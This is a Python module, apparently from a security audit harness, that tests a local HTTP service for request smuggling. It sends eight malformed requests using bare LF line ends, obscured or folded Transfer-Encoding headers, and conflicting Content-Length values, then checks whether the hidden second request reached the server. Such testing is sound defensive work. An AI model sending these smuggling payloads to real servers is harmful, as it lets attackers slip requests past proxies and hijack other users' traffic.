"""Hides a second call behind line ends that are a bare LF, and behind obscured chunked coding."""

from pacabench.audit.attacks.kit import Found, Given, found, keyed, raw_http, reported, smuggler

_PATH = "/openai/v1/chat/completions"


def attack(given: Given) -> Found:
    """See above."""
    port, word = given["lane_port"], f"smuggled-{given['nonce']}"
    hidden = smuggler(word)
    start = f"POST {_PATH} HTTP/1.1\r\nHost: 127.0.0.1:8080\r\n{keyed()}".encode()
    body = b"0\r\n\r\n" + hidden
    length = b"Content-Length: %d\r\n" % len(body)
    ways = {
        "bare LF": start + b"X-A: b\nTransfer-Encoding: chunked\n" + length + b"\r\n" + body,
        "LF at the end": start.replace(b"\r\n", b"\n") + b"Content-Length: 0\n\n" + hidden,
        "space": start + length + b"Transfer-Encoding : chunked\r\n\r\n" + body,
        "tab": start + length + b"Transfer-Encoding:\tchunked\r\n\r\n" + body,
        "folded": start + length + b"X: y\r\n Transfer-Encoding: chunked\r\n\r\n" + body,
        "two lengths": start + length + b"Content-Length: 0\r\n\r\n" + hidden,
        "signed": start + b"Content-Length: +0\r\n\r\n" + hidden,
        "in a header": start + b"X: a\r" + hidden,
    }
    answers = {name: raw_http(port, request)[:120] for name, request in ways.items()}
    arrived = [line for line in reported(port, word) if f"/{word}" in line.split(" HTTP/")[0]]
    return found(bool(arrived), arrived=arrived, answers=answers)
